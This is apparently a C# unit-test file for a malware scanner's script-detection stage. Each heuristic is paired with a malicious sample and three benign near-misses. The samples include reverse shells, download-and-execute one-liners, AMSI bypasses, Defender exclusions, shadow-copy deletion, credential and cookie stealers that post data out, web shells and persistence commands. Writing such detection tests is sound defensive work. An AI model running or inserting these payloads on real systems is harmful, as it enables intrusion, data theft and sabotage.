using ScanHost.Formats.Containers;
using ScanHost.Pipeline.Findings;
using ScanHost.Pipeline.Tests.Doubles;
using ScanHost.TestKit;
using static ScanHost.Pipeline.Findings.ScriptHeuristics;

namespace ScanHost.Pipeline.Tests.Stages.Scripts;

public sealed class ScriptStageTests
{
    private static readonly string Command = InertFiles.EncodedCommand("Write-Output 'nothing happens here'");
    private static readonly string Hex = string.Concat(Enumerable.Repeat("\\x41", 120));
    private static readonly string Names = string.Concat(Enumerable.Range(0, 60).Select(at => $"var _0x{at + 0x1000:x4}=1;"));

    private static readonly HeuristicCase[] Table =
    [
        Js(JsShell, "var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');",
            "// new ActiveXObject('WScript.Shell').Run('calc')\nvar a = 1;", "var t = new ActiveXObject('Microsoft.XMLHTTP'); t.open('GET', u);", "worker.Run(job); var shell = app.shell;"),
        Js(JsDrop, "var h = new ActiveXObject('MSXML2.XMLHTTP'); var s = new ActiveXObject('ADODB.Stream'); s.Write(h.responseBody); s.SaveToFile(p);",
            "var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', u);", "var s = new ActiveXObject('ADODB.Stream'); s.SaveToFile(p);", "var h = new XMLHttpRequest(); stream.Write(h.response);"),
        Js(JsEvalDecoded, "eval(atob('YWxlcnQoMSkgICAgICAg'));", "var x = atob('YWxlcnQoMSk='); show(x);", "eval('1+1');", "/* eval(atob(x)) */ f();"),
        Js(JsObfuscator, Names + "(function(a){a['push'](a['shift']());x=parseInt(_0x1001)})", Names, "var a=_0x1234;x=parseInt(_0x1234);", "var color=0x1234ab;a['push'](1);"),
        Js(JsPacked, "eval(function(p,a,c,k,e,d){return p}('0 1',2,2,'a|b'.split('|')))", "(function(p,a,c){return p})(1,2,3)", "function unpack(p,a,c,k,e,d){return p}", "var packed='p,a,c,k,e,d';"),
        Js(JsHexEscapes, $"var a='{Hex}';", "var a='\\x41\\x42';", $"// {Hex}\nvar a = 1;", "var a='" + new string('x', 400) + "';"),
        Js(JsTrojanLibrary, "/*! jQuery v3.4.1 */ var s = new ActiveXObject('WScript.Shell');",
            "/*! jQuery v3.4.1 */ var s = new ActiveXObject('Microsoft.XMLHTTP');", "var s = new ActiveXObject('WScript.Shell'); // needs jQuery", "/*! jQuery v3.4.1 */ function f(){}"),
        Js(JsCommentFill, Filler(400) + "new ActiveXObject('x');", Filler(400) + "function f(a){return a}", Filler(20) + "new ActiveXObject('x');",
            Filler(400) + string.Concat(Enumerable.Range(0, 2000).Select(at => $"new ActiveXObject('{at}');"))),
        Js(JsEnvExfil, "const c=require('child_process');const h=require('https');const r=https.request(o);r.write(JSON.stringify(process.env));c.execSync('id');",
            "const c=require('child_process');c.execSync('node-gyp', {env: process.env});", "const r=https.request(o);r.write(JSON.stringify({a:1}));",
            "if(process.env.NODE_ENV==='production'){https.get(u)} const c=require('child_process');"),
        new(EncodedScript, new("a.jse", "#@~^DgAAAA==\\ko$K6,JC\u007FV^GJqAQAAA==^#~@"),
            new("a.txt", "Encoded scripts begin with #@~^ and some letters, as this text says."), new("a.js", "var mark = '#@~^'; f(mark);"), new("a.txt", "#@~ is not the mark, ^ is missing here ==")),
        Ps(PsEncoded, $"powershell.exe -enc {Command}", "powershell.exe -File build.ps1 -Encoding utf8", $"$x = '{Command}'", "powershell.exe -ExecutionPolicy RemoteSigned -File x.ps1"),
        Ps(PsDownloadRun, "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')", "$x = (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')\nWrite-Output $x",
            "Invoke-WebRequest https://host.invalid/a.zip -OutFile a.zip", "# iex (iwr http://192.0.2.1/)\nGet-Date"),
        Ps(PsReflect, "$b=[Convert]::FromBase64String($s);[System.Reflection.Assembly]::Load($b)", "$b=[Convert]::FromBase64String($s);Set-Content x $b", "[System.Reflection.Assembly]::LoadFrom('a.dll')",
            "Add-Type -AssemblyName System.Drawing; [Convert]::ToBase64String($b)"),
        Ps(PsAmsi, "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed')", "# amsiInitFailed is what they set\nGet-Date", "Get-Command *Automation*", "$amsi = 1; Write-Output 'amsi'"),
        Ps(PsDefender, "Add-MpPreference -ExclusionPath C:\\", "Get-MpPreference | Format-List", "Set-MpPreference -ScanScheduleDay 1", "# Add-MpPreference -ExclusionPath C:\\\nGet-Date"),
        Ps(PsFlags, "Start-Process cmd '/c powershell -nop -w hidden -File a.ps1'", "powershell -NoProfile -File a.ps1", "powershell -ExecutionPolicy Bypass -File a.ps1", "Start-Process notepad -WindowStyle Hidden; Write-Output nop"),
        Ps(PsObfuscated, "& (\"{2}{0}{1}\" -f 'v','oke','In')", "'{0} of {1}' -f 1, 2", "$a = [char]65", "Write-Output \"a`tb\""),
        Ps(PsPersist, "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b", "Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "Get-ScheduledTask",
            "Set-ItemProperty -Path HKCU:\\Software\\App -Name a -Value b"),
        Vbs(VbsExecuteChr, "Execute(" + string.Join("&", Enumerable.Repeat("Chr(65)", 20)) + ")", "x = Chr(13) & Chr(10)\nMsgBox x", "Execute cmd", "MsgBox " + string.Join("&", Enumerable.Repeat("Chr(65)", 20))),
        Vbs(VbsDrop, "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\ns.Write h.responseBody\ns.SaveToFile p", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nMsgBox h.responseText",
            "Set s = CreateObject(\"ADODB.Stream\")\ns.SaveToFile p", "' MSXML2.XMLHTTP SaveToFile\nMsgBox 1"),
        Vbs(VbsWmi, "Set p = GetObject(\"winmgmts:Win32_Process\")\np.Create \"notepad\", Null, Null, i", "Set p = GetObject(\"winmgmts:\").ExecQuery(\"Select * from Win32_Process\")\nFor Each x In p\nNext",
            "Set p = GetObject(\"winmgmts:Win32_Service\")\np.Create \"x\"", "' Win32_Process.Create(\"notepad\")\nMsgBox 1"),
        Vbs(VbsShell, "CreateObject(\"WScript.Shell\").Run \"powershell -c x\"", "CreateObject(\"WScript.Shell\").Run \"notepad a.txt\"", "MsgBox \"powershell is needed\"", "Set s = CreateObject(\"WScript.Shell\")\nMsgBox s.CurrentDirectory"),
        Bat(BatSubstring, "set a=abcdefghijkl\n" + string.Concat(Enumerable.Range(0, 12).Select(at => $"%a:~{at},1%")), "set d=%date:~0,4%%date:~5,2%", "echo %a:x=y%", "set a=abc\necho %a%"),
        Bat(BatDownload, "certutil -urlcache -split -f http://192.0.2.1/a.exe %temp%\\a.exe\nstart %temp%\\a.exe", "curl -o a.zip https://host.invalid/a.zip\ntar xf a.zip", "certutil -urlcache * delete", "echo certutil -hashfile a.exe"),
        Bat(BatDecode, "certutil -decode a.txt a.exe", "certutil -hashfile a.exe SHA256", "findstr /c:\"x\" log.txt > out.txt", "echo decode"),
        Bat(BatRunVariable, "set a=%x:~0,3%\n%a%%b% /c y", "%JAVA_HOME%\\bin\\java -jar a.jar", "set a=%x:~0,3%\necho %a%", "%CC% -o a a.c"),
        new(BatMark, new("a.bat", [0xFF, 0xFE, .. "\r\n@echo off\r\ncls\r\n"u8]), new("a.bat", [0xFF, 0xFE, .. System.Text.Encoding.Unicode.GetBytes("@echo off\r\ncls\r\n")]),
            new("a.bat", [0xEF, 0xBB, 0xBF, .. "@echo off\r\ncls\r\n"u8]), new("a.bat", "@echo off\r\ncls\r\n")),
        Bat(BatCarets, "p^o^w^e^r^s^h^e^l^l -c x^y^z", "echo a ^& echo b ^| more", "copy a b ^\n c d", "echo 2^10"),
        Bat(BatEncoded, $"start powershell -w hidden -enc {Command}", "powershell -Command Get-Date", "powershell -File a.ps1 -e x", $"echo {Command}"),
        Bat(BatScriptUrl, "mshta http://192.0.2.1/a.hta", "mshta a.hta", "regsvr32 /s a.dll", "msiexec /i a.msi /qn"),
        Sh(ShCurlPipe, "curl -s http://192.0.2.1/a.sh | bash", "curl -s http://192.0.2.1/a.json | jq .", "# curl http://192.0.2.1/ | sh\ntrue", "curl -O http://192.0.2.1/a.sh"),
        Sh(ShReverseShell, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "exec 3<>/dev/tcp/host/80; cat <&3", "# bash -i >& /dev/tcp/x/1\ntrue", "mkfifo pipe; cat pipe"),
        Sh(ShPersist, "(crontab -l; echo '* * * * * /tmp/x') | crontab -", "crontab -l", "echo /usr/lib >> /etc/ld.so.conf", "cat /etc/crontab"),
        Py(PyExecDecoded, "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "import base64\nprint(base64.b64decode(x))", "exec(open('version.py').read())", "# exec(base64.b64decode(x))\nprint(1)"),
        Py(PySetupNetwork, "from setuptools import setup\nimport requests\nrequests.post('http://192.0.2.1', data=x)\nsetup(name='a', version='1')", "from setuptools import setup\nsetup(name='a', install_requires=['requests'])",
            "import requests\nrequests.get('http://192.0.2.1')", "from setuptools import setup\nimport subprocess\nsubprocess.check_output(['git', 'describe'])\nsetup(name='a')"),
        Py(PyReverseShell, "import socket,os,pty\ns=socket.socket();s.connect(('192.0.2.1',1))\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')", "import socket\ns=socket.socket()\ns.connect(a)",
            "import os\nos.dup2(f.fileno(),1)", "import pty\npty.spawn('/bin/sh')"),
        Php(PhpRunsRequest, "<?php system($_GET['c']); ?>", "<?php echo $_GET['c']; ?>", "<?php system('ls'); ?>", "<?php // eval($_POST['x'])\necho 1; ?>"),
        Php(PhpWebShell, "<?php $cmd = $_GET['cmd']; if (in_array($cmd, $known)) echo shell_exec($cmd . ' 2>&1'); ?>", "<?php $page = $_GET['p']; echo htmlspecialchars($page); ?>",
            "<?php $out = shell_exec('git pull'); echo $out; ?>", "<?php $f = 'trim'; echo $f($_SERVER['PHP_SELF']); ?>"),
        Ps(PsDownloadFile, "iwr http://192.0.2.1/a.exe -OutFile $env:TEMP\\upd.exe\nStart-Process $env:TEMP\\upd.exe",
            "iwr https://host.invalid/a.zip -OutFile $env:TEMP\\a.zip\nExpand-Archive $env:TEMP\\a.zip tools", "(New-Object Net.WebClient).DownloadFile('https://host.invalid/nuget.exe', \"$PSScriptRoot\\nuget.exe\")\n& $PSScriptRoot\\nuget.exe restore",
            "Start-Process notepad.exe $env:TEMP\\a.txt"),
        Ps(PsHidden, "powershell -w hidden -c \"iex (irm http://192.0.2.1/a)\"", "powershell -WindowStyle Hidden -File C:\\Scripts\\backup.ps1", "powershell -NoProfile -c \"iwr https://host.invalid/a -OutFile a\"", "Start-Process app -WindowStyle Hidden"),
        Ps(PsStays, "iwr http://192.0.2.1/a.exe -OutFile $env:APPDATA\\upd.exe\nStart-Process $env:APPDATA\\upd.exe\nSet-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value $env:APPDATA\\upd.exe",
            "Set-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name u -Value 'C:\\App\\app.exe'", "iwr http://192.0.2.1/a.exe -OutFile $env:APPDATA\\upd.exe\nStart-Process $env:APPDATA\\upd.exe",
            "Get-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
        Ps(PsInject, "$x=$w::VirtualAlloc(0,4096,0x3000,0x40)\n$w::CreateThread(0,0,$x,0,0,0)", "$x=$w::VirtualAlloc(0,4096,0x3000,4)", "$t=[Threading.Thread]::new({ 1 })\n$t.Start()", "# VirtualAlloc and CreateThread\nGet-Date"),
        Ps(PsReverseShell, "$c=New-Object Net.Sockets.TCPClient('192.0.2.1',4444);$s=$c.GetStream();$r=(iex $d 2>&1);$s.Write($r,0,9)",
            "$c=New-Object Net.Sockets.TCPClient('host',80);$s=$c.GetStream();$s.Write($b,0,9)", "(New-Object Net.Sockets.TCPClient).Connect('host',80)", "iex 'Get-Date'"),
        Js(JsWmi, "var p=GetObject('winmgmts:').Get('Win32_Process');p.Create('notepad');", "var p=GetObject('winmgmts:').ExecQuery('Select * from Win32_Process');", "// Win32_Process .Create('x')\nvar a=1;", "Object.create(win32_service)"),
        Js(JsRunsDownload, "require('child_process').exec('curl -s http://192.0.2.1/a | sh');", "require('child_process').exec('curl -O https://host.invalid/a.zip');",
            "require('child_process').execSync('node-gyp rebuild');", "console.log('curl http://192.0.2.1/a | sh');"),
        Vbs(VbsRunDownload, "Set x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nx.Send\nExecute x.ResponseText", "Set x = CreateObject(\"WinHttp.WinHttpRequest.5.1\")\nx.Send\nMsgBox x.ResponseText",
            "Execute cmd", "' Execute x.ResponseText of WinHttp.WinHttpRequest\nMsgBox 1"),
        Vbs(VbsPersist, "CreateObject(\"WScript.Shell\").RegWrite \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a\", WScript.ScriptFullName", "x = s.RegRead(\"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\a\")",
            "s.RegWrite \"HKCU\\Software\\App\\a\", 1", "' regwrite currentversion\\run\nMsgBox 1"),
        Vbs(VbsDropEncoded, "d.dataType = \"bin.base64\"\ns.Write d.nodeTypedValue\ns.SaveToFile \"p.exe\", 2\nw.Run \"p.exe\"", "d.dataType = \"bin.base64\"\nMsgBox d.text", "s.SaveToFile \"a.txt\", 2\nw.Run \"a.txt\"",
            "' bin.base64 SaveToFile\nw.Run \"notepad\""),
        Bat(BatInstallUrl, "msiexec /i http://192.0.2.1/a.msi /qn", "msiexec /i a.msi /qn", "msiexec /x {GUID}", "echo see https://host.invalid/a.msi"),
        Bat(BatDropScript, "echo MsgBox 1 > %temp%\\a.vbs\ncscript %temp%\\a.vbs", "echo MsgBox 1 > a.vbs", "cscript check.vbs", "echo done > log.txt\ncscript log.vbs"),
        Bat(BatSabotage, "vssadmin delete shadows /all /quiet", "vssadmin list shadows", "net stop spooler", "bcdedit /enum"),
        Bat(BatWmi, "wmic process call create \"notepad\"", "wmic process list brief", "wmic os get caption", "echo process call create"),
        Sh(ShDecodePipe, "echo ZWNobyBoZWxsbyB3b3JsZA== | base64 -d | bash", "echo ZWNobyBoZWxsbyB3b3JsZA== | base64 -d > a.txt", "base64 a.bin | mail bob", "# echo x | base64 -d | sh\ntrue"),
        Sh(ShDownloadRun, "wget http://192.0.2.1/a -O /tmp/a; chmod +x /tmp/a; /tmp/a", "wget https://host.invalid/a -O a; chmod +x a", "wget http://192.0.2.1/a.json", "chmod +x run.sh; ./run.sh"),
        Sh(ShMiner, "./kswapd0 -o stratum+tcp://pool.invalid:3333 -u x", "echo stratum of rock", "nohup ./server -o log.txt &", "# stratum+tcp://pool\ntrue"),
        Sh(ShCover, "setenforce 0\nhistory -c\nrm -f /var/log/wtmp", "setenforce 0", "rm -f /var/log/app.log", "# history -c; setenforce 0; ufw disable\ntrue"),
        Sh(ShCron, "(crontab -l; echo '0 3 * * * /usr/local/bin/backup.sh') | crontab -", "crontab -l", "cat /etc/crontab", "echo run it from cron"),
        Py(PyRunDownload, "import requests\nexec(requests.get('http://192.0.2.1/a').text)", "import requests\nprint(requests.get('http://192.0.2.1/a').text)", "exec(open('version.py').read())", "# exec(requests.get(u).text)\nprint(1)"),
        Py(PyInject, "p=k.VirtualAlloc(0,n,0x3000,0x40)\nk.CreateThread(0,0,p,0,0,0)", "p=k.VirtualAlloc(0,n,0x3000,4)", "import threading\nthreading.Thread(target=f).start()", "# VirtualAlloc CreateThread\nprint(1)"),
        Py(PyStealer, "shutil.copy(p + r'\\Google\\Chrome\\User Data\\Default\\Login Data', 't')\nwin32crypt.CryptUnprotectData(x)\nrequests.post(h, json=d)",
            "win32crypt.CryptUnprotectData(x)\nrequests.post(h, json=d)", "open(p + 'Login Data')\nprint(CryptUnprotectData(x))", "# Login Data CryptUnprotectData requests.post(\nprint(1)"),
        Py(PyEnvExfil, "requests.post(u, data=json.dumps(dict(os.environ)))", "env = dict(os.environ)\nsubprocess.run(['ls'], env=env)", "requests.post(u, data=x)", "print(os.environ['HOME'])"),
        Py(PyInstallHook, "class P(install):\n    def run(self):\n        requests.get('http://192.0.2.1/')\nsetup(name='a', cmdclass={'install': P})",
            "class P(install):\n    def run(self):\n        print('hello')\nsetup(name='a', cmdclass={'install': P})", "requests.get('http://192.0.2.1/')", "class P(test):\n    def run(self):\n        requests.get(u)\nsetup(name='a', cmdclass={'test': P})"),
        HeuristicCase.Of(ServerEval, "a.aspx", "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"x\"],\"unsafe\");%>", "<%@ Page Language=\"C#\"%><%= Request.Item[\"x\"] %>", "<%@ Page Language=\"C#\"%><p>eval(Request)</p>".Replace("eval(", "eval of (", StringComparison.Ordinal),
            "<%@ Page Language=\"Jscript\"%><% eval(\"1+1\"); %>"),
        HeuristicCase.Of(ServerWebShell, "a.jsp", "<%@ page import=\"java.io.*\"%><% String c = request.getParameter(\"c\"); Runtime.getRuntime().exec(c); %>", "<%@ page import=\"java.io.*\"%><% Runtime.getRuntime().exec(\"uptime\"); %>",
            "<%@ page import=\"java.io.*\"%><% out.println(request.getParameter(\"c\")); %>", "<%@ page import=\"java.io.*\"%><p>Runtime</p>"),
        new(PickleCall, new("a.pkl", [0x80, 4, .. "cposix\nsystem\n(Vid\ntR."u8]), new("a.pkl", [0x80, 4, .. "ccollections\nOrderedDict\n)R."u8]), new("a.pkl", [0x80, 4, .. "Vposix.system\n."u8]), new("a.pkl", [0x80, 4, .. "cnumpy\nndarray\n)R."u8])),
        new(PickleCommand, new("a.pkl", [0x80, 4, .. "cposix\nsystem\n(Vtouch /tmp/a\ntR."u8]), new("a.pkl", [0x80, 4, .. "cposix\ngetpid\n)R."u8]), new("a.pkl", [0x80, 4, .. "Vtouch /tmp/a\n."u8]), new("a.pkl", [0x80, 4, .. "cnumpy\nload\n(Va b c d e\ntR."u8])),
        Js(JsRunsAnswer, "var a=new ActiveXObject('MSXML2.XMLHTTP');a.open('GET',u,false);a.send();this['eval'](a['responseText']);", "var a=new ActiveXObject('MSXML2.XMLHTTP');a.send();show(a.responseText);",
            "var a=window.XMLHttpRequest?new XMLHttpRequest():new ActiveXObject('Microsoft.XMLHTTP');eval('('+a.responseText+')');", "eval(answer.responseText);"),
        Ps(NamelessHost, "iex (irm http://192.0.2.1/a)", "iex (irm https://host.invalid/a)", "iex (irm http://192.168.1.10/tools/a.ps1)", "irm http://192.0.2.1/a"),
        Js(JsReverseShell, "var n=require('net'),s=require('child_process').spawn('/bin/sh',[]);var k=new n.Socket();k.connect(4444,'192.0.2.1',function(){k.pipe(s.stdin);s.stdout.pipe(k);});",
            "const p=pty.spawn(process.env.SHELL);net.createServer(s=>{s.pipe(p);p.pipe(s)}).listen(1);", "const s=spawn('sh',['build.sh']);s.stdout.pipe(process.stdout);", "k.connect(4444,'host');k.pipe(out);"),
        Js(JsStartsSaved, "const p=os.tmpdir()+'/a.cmd';https.get(u,r=>{const f=fs.createWriteStream(p);r.pipe(f);f.on('finish',()=>cp.exec('cmd /c '+p))});",
            "https.get(u,r=>{const f=fs.createWriteStream(out);r.pipe(f)});cp.execSync('npm ci');", "const p=os.tmpdir()+'/a';fs.writeFileSync(p,x);cp.exec('open '+p);", "https.get(u,r=>{r.on('end',()=>done(data))});"),
        Js(JsTokenTheft, "execSync('trufflehog filesystem / --json');https.request({hostname:'x'});", "// trufflehog filesystem / --json\nhttps.request({hostname:'x'});", "execSync('trufflehog --version');https.request(o);", "execSync('find . -name index.js');https.get(u);"),
        Js(JsBrowserTheft, "chrome.cookies.getAll({},c=>fetch('https://collect.invalid/c',{method:'POST',body:JSON.stringify(c)}));", "chrome.cookies.getAll({},c=>show(c));", "fetch('https://api.invalid/c',{method:'POST',body:x});", "form.addEventListener('submit',e=>e.preventDefault());"),
        Js(PaddedCode, "module.exports=f;" + new string(' ', 300) + "eval(x);", "module.exports=f;" + new string(' ', 100) + "eval(x);", "module.exports=f;" + new string(' ', 300) + "// note", "f();\n" + new string(' ', 300) + "eval(x);"),
        Ps(PsRunsDecoded, "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,'Decompress'))).ReadToEnd()", "$t=(New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,'Decompress'))).ReadToEnd()",
            "Set-Content a ([Convert]::FromBase64String($x))", "iex 'Get-Date'"),
        Ps(PsAmsiPatch, "$p=$w::GetProcAddress($w::LoadLibrary('am'+'si.dll'),'Amsi'+'ScanBuffer');$w::VirtualProtect($p,5,0x40,[ref]$o);[Runtime.InteropServices.Marshal]::Copy($b,0,$p,6)", "# AmsiScanBuffer, VirtualProtect, Marshal]::Copy\nGet-Date",
            "$w::VirtualProtect($p,5,0x40,[ref]$o);[Runtime.InteropServices.Marshal]::Copy($b,0,$p,6)", "Get-Item C:\\Windows\\System32\\amsi.dll"),
        Ps(PsStealer, "Compress-Archive \"$env:APPDATA\\Exodus\\a\",\"$d\\Default\\Login Data\" z.zip\ncurl.exe -F d=@z.zip https://api.telegram.org/bot1:A/sendDocument", "Copy-Item \"$d\\Default\\Login Data\" D:\\Backup",
            "curl.exe -F d=@log.zip https://host.invalid/up", "Invoke-RestMethod https://host.invalid -Method Post -Body $electrum"),
        Bat(BatRunsDownload, "for /f \"delims=\" %%i in ('curl -s http://192.0.2.1/c.txt') do %%i", "for /f %%i in ('curl -s https://host.invalid/version') do set v=%%i", "curl -s https://host.invalid/a | findstr x", "for /f %%i in (list.txt) do call %%i"),
        Bat(BatStays, "curl -o %temp%\\a.exe http://192.0.2.1/a.exe\nstart %temp%\\a.exe\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d %temp%\\a.exe", "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a /d C:\\App\\a.exe",
            "curl -o %temp%\\a.exe http://192.0.2.1/a.exe\nstart %temp%\\a.exe", "schtasks /create /tn a /tr C:\\App\\a.exe /sc daily"),
        Sh(ShPipeNameless, "curl -s http://192.0.2.1/a | bash", "curl -s https://host.invalid/a | bash", "curl -s http://192.0.2.1/a > a.txt", "curl -s http://192.0.2.1/a.json | jq ."),
        Sh(ShBotLoader, "for a in mips mpsl arm7 x86 sh4; do wget http://192.0.2.1/$a; chmod 777 $a; ./$a; done", "for a in amd64 arm64 armv7 ppc64le; do docker build --platform linux/$a .; done", "wget http://192.0.2.1/mips; chmod 777 mips", "echo mips mpsl arm7 x86 sh4"),
        Sh(ShContainerEscape, "docker -H tcp://10.0.0.2:2375 run -v /:/mnt alpine chroot /mnt sh -c id", "docker run -v /srv/data:/data alpine ls /data", "chroot /mnt sh -c id", "docker run --rm alpine chroot --help"),
        Sh(MacStealer, "P=$(osascript -e 'display dialog \"Password\" default answer \"\" with hidden answer')\necho $P | sudo -S true\ncurl -F f=@/tmp/a http://192.0.2.1/", "osascript -e 'display dialog \"Name\" default answer \"\"'\ncurl -F f=@a https://host.invalid/",
            "osascript -e 'display dialog \"Password\" default answer \"\" with hidden answer'", "echo $P | sudo -S true\ncurl -F f=@a https://host.invalid/"),
        Py(PyPersist, "k=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nwinreg.SetValueEx(k,'a',0,winreg.REG_SZ,p)", "k=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\nprint(winreg.QueryValueEx(k,'a'))",
            "winreg.SetValueEx(k,'a',0,winreg.REG_SZ,p)", "# CurrentVersion\\Run winreg.SetValueEx\nprint(1)"),
        Py(PyClipper, "t=pyperclip.paste()\nif re.match(r'^0x[a-fA-F0-9]{40}$',t): pyperclip.copy(A)", "t=pyperclip.paste()\nprint(t)", "if re.match(r'^0x[a-fA-F0-9]{40}$',t): print(t)", "pyperclip.copy('x')"),
        HeuristicCase.Of(RubyRunsDownload, "a.rb", "require 'net/http'\neval(Net::HTTP.get(URI('http://192.0.2.1/c')))\n", "require 'net/http'\nputs Net::HTTP.get(URI('http://192.0.2.1/c'))\n", "eval('1 + 1')\nputs 1\n", "class A\n  def get; open('a.txt').read; end\nend\n"),
        HeuristicCase.Of(OtherReverseShell, "a.rb", "require 'socket'\nf=TCPSocket.open('192.0.2.1',4444).to_i\nexec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)\n", "require 'socket'\ns=TCPSocket.open('host',80)\nputs s.gets\n", "exec '/bin/sh', '-c', 'make'\n", "s=TCPServer.new(80)\nloop { s.accept.puts 'x' }\n"),
        Php(PhpObfuscated, "<?php eval(gzinflate(base64_decode('x'))); ?>", "<?php $x = base64_decode($y); ?>", "<?php eval('return 1;'); ?>", "<?php // eval(base64_decode($x))\necho 1; ?>"),
    ];

    public static TheoryData<int> Rows => [.. Enumerable.Range(0, Table.Length)];

    [Theory]
    [MemberData(nameof(Rows))]
    public Task A_script_gives_itself_away_and_three_that_come_close_do_not(int row) => Table[row].CheckAsync();

    [Fact]
    public void Every_heuristic_has_its_row() => Table.Select(row => row.Heuristic.Id).Should().BeEquivalentTo(All.Select(heuristic => heuristic.Id));

    [Fact]
    public async Task A_layer_raises_the_file_that_hides_it()
    {
        using var scans = new Scans { Readers = ContainerReaders.All };
        var inner = InertFiles.EncodedCommand("iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')");

        var outcome = await scans.ScanAsync(System.Text.Encoding.UTF8.GetBytes($"@echo off\r\nstart /min powershell -nop -w hidden -enc {inner}\r\n"), "run.bat");

        outcome.Artifacts.Should().Contain(artifact => artifact.Relation == "decoded" && artifact.Name.EndsWith(".ps1", StringComparison.Ordinal));
        outcome.Findings.Should().Contain(finding => finding.Id == PsDownloadRun.Id && finding.Artifact > 0);
    }

    private static string Filler(int lines) => string.Concat(Enumerable.Repeat("// the quick brown fox jumps over the lazy dog and runs away from it\n", lines));

    private static HeuristicCase Js(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.js", positive, negatives);

    private static HeuristicCase Ps(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.ps1", positive, negatives);

    private static HeuristicCase Vbs(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.vbs", positive, negatives);

    private static HeuristicCase Bat(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.bat", positive, negatives);

    private static HeuristicCase Sh(Heuristic heuristic, string positive, params string[] negatives) =>
        HeuristicCase.Of(heuristic, "a.sh", "#!/bin/sh\n" + positive, [.. negatives.Select(text => "#!/bin/sh\n" + text)]);

    private static HeuristicCase Py(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "setup.py", positive, negatives);

    private static HeuristicCase Php(Heuristic heuristic, string positive, params string[] negatives) => HeuristicCase.Of(heuristic, "a.php", positive, negatives);
}
